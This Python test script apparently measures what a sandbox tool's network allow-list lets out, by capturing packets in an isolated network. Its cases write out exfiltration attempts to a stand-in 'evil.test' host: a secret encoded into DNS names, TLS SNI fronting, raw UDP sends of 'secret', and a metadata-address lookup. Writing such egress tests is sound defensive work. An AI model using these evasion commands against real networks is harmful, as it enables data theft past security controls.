#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
"""What `coffer run --allow` sends into the network, seen by a packet capture in a network of its own.

Usage: egress_capture.py COFFER. Prints one line for each case: its name, what the program inside said, the names that a name
server was asked for and the connections that were begun (their first packet), or "nothing".
"""
import os
import socket
import ssl
import struct
import subprocess
import sys
import tempfile
import threading

sys.dont_write_bytecode = True
import own_network  # noqa: E402

COFFER = sys.argv[1]
MARK = ("127.0.0.9", 9)  # a packet to it ends a case
holder = tempfile.TemporaryDirectory(prefix="capture-")
directory = holder.name
os.chmod(directory, 0o755)
EC = ["-newkey", "ec", "-pkeyopt", "ec_paramgen_curve:prime256v1", "-nodes"]


def make_certificate():
    def openssl(*words):
        subprocess.run(["openssl", *words], check=True, capture_output=True, cwd=directory)

    openssl("req", "-x509", *EC, "-keyout", "ca.key", "-out", "ca.pem", "-days", "2", "-subj", "/CN=test ca")
    openssl("req", *EC, "-keyout", "s.key", "-out", "s.csr", "-subj", "/CN=good.test")
    with open(directory + "/ext", "w") as ext:
        ext.write("subjectAltName=DNS:good.test,DNS:evil.test")
    openssl("x509", "-req", "-in", "s.csr", "-CA", "ca.pem", "-CAkey", "ca.key", "-CAcreateserial", "-out", "s.pem",
            "-days", "2", "-extfile", "ext")
    os.chmod(directory + "/ca.pem", 0o644)
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    context.load_cert_chain(directory + "/s.pem", directory + "/s.key")
    return context


def serve(address, context):
    listener = socket.create_server((address, 443))

    def answer(connection):
        try:
            with context.wrap_socket(connection, server_side=True) as tls:
                tls.recv(4096)
                tls.sendall(b"HTTP/1.1 200 OK\r\nContent-Length: 6\r\nConnection: close\r\n\r\nhello\n")
        except OSError:
            pass

    def loop():
        while True:
            threading.Thread(target=answer, args=(listener.accept()[0],), daemon=True).start()

    threading.Thread(target=loop, daemon=True).start()


def describe(packet, kind):
    """What a packet of IP begins, or None for one that answers or goes on."""
    if kind != 0x0800:
        return f"ethertype {kind:#x}"
    rest = packet[(packet[0] & 15) * 4:]
    source, to = (socket.inet_ntoa(packet[i:i + 4]) for i in (12, 16))
    if packet[9] == socket.IPPROTO_TCP:
        syn = rest[13] & 0x12 == 0x02
        return f"syn {to}:{struct.unpack('>H', rest[2:4])[0]}" if syn else None
    if packet[9] == socket.IPPROTO_UDP:
        ports = struct.unpack(">HH", rest[:4])
        if (source, ports[0]) == ("127.0.0.53", 53):
            return None
        if (to, ports[1]) == MARK:
            return "mark"
        if (to, ports[1]) == ("127.0.0.53", 53):
            return "asked " + own_network.question(rest[8:])[0]
        return f"udp {to}:{ports[1]}"
    return f"protocol {packet[9]} {to}"


def captured():
    seen = set()
    marker.sendto(b"end", MARK)
    while True:
        packet, where = capture.recvfrom(65536)
        if where[2] != 4:  # PACKET_OUTGOING: each is on the loopback twice
            continue
        what = describe(packet, where[1])
        if what == "mark":
            return ", ".join(sorted(seen)) or "nothing"
        if what:
            seen.add(what)


def case(name, rules, command):
    flags = [word for rule in rules for word in ("--allow", rule)]
    if rules:
        flags += ["--upstream-ca", directory + "/ca.pem", "--dangerously-allow-address", "127.0.0.2/32"]
    run = subprocess.run([COFFER, "run", "--wall", "60s", *flags, "--", "sh", "-c", command], capture_output=True, text=True)
    print(f"{name} | {' '.join(run.stdout.split()) or 'no'} | {captured()}", flush=True)
    sys.stderr.write(run.stderr)


def stray():
    """The control: this process is in the same network, and nothing holds it."""
    with socket.socket() as s:
        s.connect_ex(("127.0.0.3", 9999))
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.sendto(b"x", ("127.0.0.3", 53))
    try:
        socket.getaddrinfo("secret.evil.test", 443)
    except OSError:
        pass
    print(f"control | no | {captured()}", flush=True)


own_network.enter(directory)
own_network.serve_names(lambda name: {"good.test": "127.0.0.2", "evil.test": "127.0.0.3",
                                      "meta.test": "169.254.169.254"}.get(name))
tls = make_certificate()
for address in ("127.0.0.2", "127.0.0.3"):
    serve(address, tls)
marked = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
marked.bind(MARK)
marker = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
capture = socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, socket.htons(3))  # ETH_P_ALL
capture.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4 << 20)

QUIET = "-sS --retry 0 -m 30"
DIRECT = QUIET + " --noproxy '*'"
FRONTED = "echo x | openssl s_client -connect good.test:443 -servername evil.test 2>/dev/null | grep -c 'BEGIN CERT'"
RAW = """python3 - <<'END'
import socket
def try_(f):
    try: f(); return 'sent'
    except OSError: return 'refused'
u = lambda to: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'secret', to)
print(try_(lambda: u(('127.0.0.3', 53))), try_(lambda: u(('192.0.2.1', 53))),
      try_(lambda: socket.create_connection(('192.0.2.1', 443), 5)),
      try_(lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)),
      try_(lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW)))
END"""
stray()
case("spliced", ["good.test"], f"curl {QUIET} https://good.test/")
case("spliced without a proxy", ["good.test"], f"curl {DIRECT} https://good.test/")
case("judged", ["GET https://good.test/v1/**"], f"curl {QUIET} https://good.test/v1/x")
case("another path", ["GET https://good.test/v1/**"], f"curl {QUIET} -o /dev/null -w '%{{http_code}}' https://good.test/v2")
case("another name", ["good.test"], f"curl {QUIET} https://evil.test/")
case("another name without a proxy", ["good.test"], f"curl {DIRECT} https://evil.test/")
case("a name with a secret", ["good.test"], "getent ahosts c2VjcmV0.evil.test; getent ahosts c2VjcmV0.good.test")
case("another port", ["good.test"], f"curl {QUIET} https://good.test:8443/")
case("another port without a proxy", ["good.test"], f"curl {DIRECT} https://good.test:8443/")
case("a refused address", ["meta.test"], f"curl {QUIET} https://meta.test/")
case("another server name", ["good.test"], FRONTED.replace("s_client", "s_client -proxy 127.0.0.1:3128"))
case("another server name without a proxy", ["good.test"], FRONTED)
case("its own server name", ["good.test"], FRONTED.replace("-servername evil", "-servername good"))
case("not TLS without a proxy", ["good.test"], "echo GET / | busybox nc good.test 443 | wc -c")
case("without names", ["good.test"], RAW)
case("no rules", [], f"curl {DIRECT} https://good.test/; getent ahosts good.test")
